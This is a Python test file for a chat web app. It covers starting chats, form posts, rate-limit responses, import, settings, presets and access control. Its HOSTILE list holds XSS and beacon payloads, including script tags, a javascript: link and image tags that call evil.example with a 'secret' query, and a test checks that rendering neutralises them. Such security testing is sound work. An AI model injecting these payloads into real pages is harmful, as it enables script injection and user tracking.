"""Chat pages: starting a chat from a character page, the chat page without JavaScript,
message rendering that never runs anything, the chat list, import, settings and presets."""

# ruff: noqa: F811  (fixtures come from chat_setup by name; test parameters reuse them)

import re

import pytest

from galatea.bootstrap import Services
from galatea.inference.scheduling import QueueFull
from galatea.inference.scripted import ScriptedBackend
from tests.web.chat_setup import (  # noqa: F401
    app,
    events,
    make_character,
    make_chat,
    scripted,
)
from tests.web.conftest import Browser
from tests.web.markup_checks import unsafe_markup

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/x.png?q=secret">',
    "![beacon](https://evil.example/track.png)",
    "[click](javascript:alert(1))",
    '<a href="#" onclick="alert(1)">x</a>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
]


def chat_id_from(location: str) -> str:
    found = re.fullmatch(r"/chats/([\w-]+)", location)
    assert found, location
    return found.group(1)


async def test_start_chat_on_the_character_page_opens_the_chat_with_its_greeting(
    alice: Browser,
) -> None:
    character_id = await make_character(alice)
    page = await alice.page(f"/characters/{character_id}")
    assert 'action="/chats"' in page.text
    started = await alice.submit("/chats", {"character_id": character_id})
    assert started.status_code == 303
    chat_id = chat_id_from(started.headers["location"])
    chat = await alice.page(started.headers["location"])
    assert chat.status_code == 200
    assert "Hello alice, I am Ava." in chat.text
    assert 'data-swipe-count="2"' in chat.text
    assert "1/2" in chat.text
    assert f'data-chat-id="{chat_id}"' in chat.text
    assert "/static/js/chat.js" in chat.text
    assert unsafe_markup(chat.text) == []


async def test_sending_without_javascript_stores_the_message_and_the_reply_follows(
    alice: Browser,
) -> None:
    chat = await make_chat(alice, await make_character(alice))
    await alice.page(f"/chats/{chat['id']}")
    sent = await alice.submit(f"/chats/{chat['id']}/send", {"text": "Hello from a form"})
    assert sent.status_code == 303
    # The reply is a job of the server; it is stored whether or not anyone reads it.
    for _ in range(200):
        page = await alice.page(f"/chats/{chat['id']}")
        if "The ferns are lovely today." in page.text:
            break
    assert "Hello from a form" in page.text
    assert "The ferns are lovely today." in page.text


async def test_a_busy_server_says_so_on_the_page_and_keeps_the_draft(
    alice: Browser, services_of_app: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    chat = await make_chat(alice, await make_character(alice))
    await alice.page(f"/chats/{chat['id']}")

    async def refuse(*_args: object, **_kwargs: object) -> None:
        raise QueueFull("full", retry_after=7.2)

    running = await services_of_app.engines.ready()
    monkeypatch.setattr(running.scheduler, "submit", refuse)
    answer = await alice.submit(f"/chats/{chat['id']}/send", {"text": "my careful words"})
    assert answer.status_code == 429
    assert answer.headers["retry-after"] == "8"
    assert "the server is busy; try again in 8 seconds" in answer.text
    assert "my careful words" in answer.text
    api = await alice.call(
        "POST", f"/api/v1/chats/{chat['id']}/messages", json={"text": "my careful words"}
    )
    assert (api.status_code, api.headers["retry-after"]) == (429, "8")
    assert api.json()["error"] == "the server is busy; try again in 8 seconds"
    messages = (await alice.call("GET", f"/api/v1/chats/{chat['id']}/messages")).json()
    assert len(messages) == 1


@pytest.mark.parametrize("payload", HOSTILE)
async def test_hostile_message_text_is_rendered_harmless(
    alice: Browser, scripted: ScriptedBackend, payload: str
) -> None:
    scripted.replies = [payload]
    chat = await make_chat(alice, await make_character(alice))
    answer = await alice.call(
        "POST", f"/api/v1/chats/{chat['id']}/messages", json={"text": payload}
    )
    assert dict(events(answer))["done"]["status"] == "complete"
    for path in (f"/chats/{chat['id']}", f"/chats/{chat['id']}/fragments/messages"):
        page = await alice.page(path)
        assert unsafe_markup(page.text) == [], path
        assert (
            "evil.example/x.png" not in page.text.replace("&amp;", "&") or "<img" not in page.text
        )


async def test_the_fragment_is_the_message_list_only(alice: Browser) -> None:
    chat = await make_chat(alice, await make_character(alice))
    fragment = await alice.page(f"/chats/{chat['id']}/fragments/messages")
    assert fragment.status_code == 200
    assert "<html" not in fragment.text
    assert fragment.text.count('class="message message-character') == 1


async def test_the_chat_list_import_rename_settings_and_delete(alice: Browser) -> None:
    character_id = await make_character(alice)
    chat = await make_chat(alice, character_id)
    listing = await alice.page(f"/chats?character_id={character_id}")
    assert f'href="/chats/{chat["id"]}"' in listing.text
    assert 'action="/chats/import"' in listing.text

    exported = await alice.call("GET", f"/api/v1/chats/{chat['id']}/export")
    imported = await alice.submit(
        "/chats/import",
        {"character_id": character_id},
        files={"file": ("c.jsonl", exported.content, "application/jsonl")},
    )
    assert imported.status_code == 303
    bad = await alice.submit(
        "/chats/import",
        {"character_id": character_id},
        files={"file": ("c.jsonl", b"nonsense\n", "application/jsonl")},
    )
    assert bad.status_code == 422
    assert "line 1 is not valid JSON" in bad.text

    renamed = await alice.submit(f"/chats/{chat['id']}/rename", {"title": "Evening tea"})
    assert renamed.status_code == 303
    assert "Evening tea" in (await alice.page(f"/chats/{chat['id']}")).text

    saved = await alice.submit(
        f"/chats/{chat['id']}/settings",
        {"persona_id": "", "preset_id": "", "setting_temperature": "0.5", "setting_top_k": ""},
    )
    assert saved.status_code == 303
    settings = (await alice.call("GET", f"/api/v1/chats/{chat['id']}/settings")).json()
    assert settings["overrides"] == {"temperature": 0.5}
    refused = await alice.submit(f"/chats/{chat['id']}/settings", {"setting_temperature": "hot"})
    assert refused.status_code == 422
    assert "settings.temperature: must be a number" in refused.text

    deleted = await alice.submit(f"/chats/{chat['id']}/delete")
    assert deleted.status_code == 303
    assert (await alice.page(f"/chats/{chat['id']}")).status_code == 404


async def test_presets_page_creates_edits_and_deletes(alice: Browser) -> None:
    page = await alice.page("/presets")
    assert page.status_code == 200
    created = await alice.submit(
        "/presets", {"name": "Gentle", "setting_temperature": "0.6", "setting_template": ""}
    )
    assert created.status_code == 303
    [preset] = (await alice.call("GET", "/api/v1/presets")).json()
    assert preset["settings"] == {"temperature": 0.6}
    edit = await alice.page(f"/presets/{preset['id']}/edit")
    assert 'value="0.6"' in edit.text
    bad = await alice.submit(
        f"/presets/{preset['id']}/edit", {"name": "Gentle", "setting_top_p": "7"}
    )
    assert bad.status_code == 422
    assert "between 0 and 1" in bad.text
    deleted = await alice.submit(f"/presets/{preset['id']}/delete")
    assert deleted.status_code == 303
    assert (await alice.call("GET", "/api/v1/presets")).json() == []


async def test_someone_elses_private_character_cannot_be_chatted_with(
    alice: Browser, bob: Browser
) -> None:
    character_id = await make_character(alice)
    await bob.page("/chats")
    refused = await bob.submit("/chats", {"character_id": character_id})
    assert refused.status_code == 404
    api = await bob.call("POST", "/api/v1/chats", json={"character_id": character_id})
    assert api.status_code == 404
    assert (await bob.call("GET", "/api/v1/chats")).json() == []
